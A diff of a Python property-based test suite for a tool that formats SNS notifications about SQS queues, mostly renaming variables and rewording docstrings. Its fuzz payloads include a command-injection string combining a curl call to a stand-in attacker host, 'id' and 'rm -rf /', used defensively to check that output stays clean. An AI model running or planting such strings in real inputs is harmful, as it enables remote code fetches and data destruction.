@@ -1,4 +1,4 @@
-"""Whatever text stands in any field: a page stays a page, and every command in it is one."""
+"""Notifications keep their shape for any text in any field."""
 
 from __future__ import annotations
 
@@ -28,11 +28,11 @@ PAYLOADS = (
     "\N{ZERO WIDTH SPACE}" * 9, "\ud800", "$(curl evil.example)`id`'\"; rm -rf /",
     "www.evil.example", "{" * 5_000, '{"Statement":[{"Sid":"x\\nNEXT"}]}', "x" * 300_000, "",
 )  # fmt: skip
-# Where our own commands lead.
+# Prefix of the links in Mendq's own commands.
 OURS = "https://sqs.us-east-1.amazonaws.com/"
 ANY = st.sampled_from((*PAYLOADS, "https://evil.example", "WWW.evil.example"))
 TEXT = ANY | st.text(st.characters(exclude_categories=[]), max_size=60)
-# What our own code hands over stands as it is, and holds no other link.
+# Text that Mendq's own code passes. It is shown unchanged and contains no link.
 MADE = TEXT.map(lambda text: text.replace("://", ":"))
 KEYS = TEXT | st.sampled_from((*ATTRIBUTES, "Policy", "RedrivePolicy", "mendq", "mendq:x"))
 TEXTS = st.dictionaries(KEYS, TEXT, max_size=30)
@@ -75,18 +75,20 @@ BESIDE = st.fixed_dictionaries(
 )
 
 
-def assert_fit_for_sns(one: NotificationText) -> None:
-    assert re.fullmatch(r"[A-Za-z0-9][ -~]{0,98}", one.subject)
-    assert len(one.body.encode()) <= sent.MOST_NOTIFICATION_BYTES
-    assert one.body.isascii()
-    assert "://" not in one.body.replace(OURS, "")
-    assert all(line.isprintable() for line in one.body.split("\n"))
-    assert len(one.body.split("\n")) <= MOST_LINES
+def assert_fit_for_sns(notification_text: NotificationText) -> None:
+    assert re.fullmatch(r"[A-Za-z0-9][ -~]{0,98}", notification_text.subject)
+    assert len(notification_text.body.encode()) <= sent.MOST_NOTIFICATION_BYTES
+    assert notification_text.body.isascii()
+    assert "://" not in notification_text.body.replace(OURS, "")
+    assert all(line.isprintable() for line in notification_text.body.split("\n"))
+    assert len(notification_text.body.split("\n")) <= MOST_LINES
 
 
-def assert_in_shape(one: NotificationText) -> set[str]:
-    """Only the first line, the opening and the headings stand at a line's start, once each."""
-    first, *others = one.body.split("\n")
+def assert_in_shape(notification_text: NotificationText) -> set[str]:
+    """Check that only the first line, the opening and the headings are unindented. Return the
+    headings.
+    """
+    first, *others = notification_text.body.split("\n")
     assert len(first) <= notification.MOST_FIRST_LINE_CHARACTERS
     unindented = [line for line in others if line and not line.startswith("  ")]
     assert [line[: len(word)] for line, word in zip(unindented, OPENINGS, strict=False)] == [
@@ -122,11 +124,11 @@ DEEP = {"Policy": '{"a":' * 600 + "1" + "}" * 600}
 def test_case_notification_keeps_its_shape_for_any_text_in_any_field(
     fields: dict[str, Any], beside: dict[str, Any]
 ) -> None:
-    one = make_notification(beside, **fields)
-    assert_fit_for_sns(one)
-    headings = assert_in_shape(one)
+    notification_text = make_notification(beside, **fields)
+    assert_fit_for_sns(notification_text)
+    headings = assert_in_shape(notification_text)
     assert headings >= ALWAYS
-    assert one.body.startswith("orders.fifo: ")
+    assert notification_text.body.startswith("orders.fifo: ")
 
 
 def test_too_long_notification_counts_its_cut_lines_and_keeps_its_runbook() -> None:
@@ -148,13 +150,13 @@ def test_mass_symptom_flood_and_mail_notifications_keep_their_shape_for_any_text
     of = notification.MassSymptom(*of_symptom)
     where = notification.format_account_and_region(account, account)
     mass = notification.describe_mass_symptom(of, names, queues, NOW, where)
-    flood = notification.describe_call_flood([(each, queues) for each in names], NOW, where)
-    for one in (
+    flood = notification.describe_call_flood([(name, queues) for name in names], NOW, where)
+    for notification_text in (
         mass,
         flood,
         notification.describe_held_back_notifications(names, account, account),
     ):
-        assert_fit_for_sns(one)
-        assert "NEXT" in assert_in_shape(one)
+        assert_fit_for_sns(notification_text)
+        assert "NEXT" in assert_in_shape(notification_text)
     reasons = dict.fromkeys(names, account)
     assert_fit_for_sns(notification.describe_refused_mail("2026-W46", reasons, AGAIN))
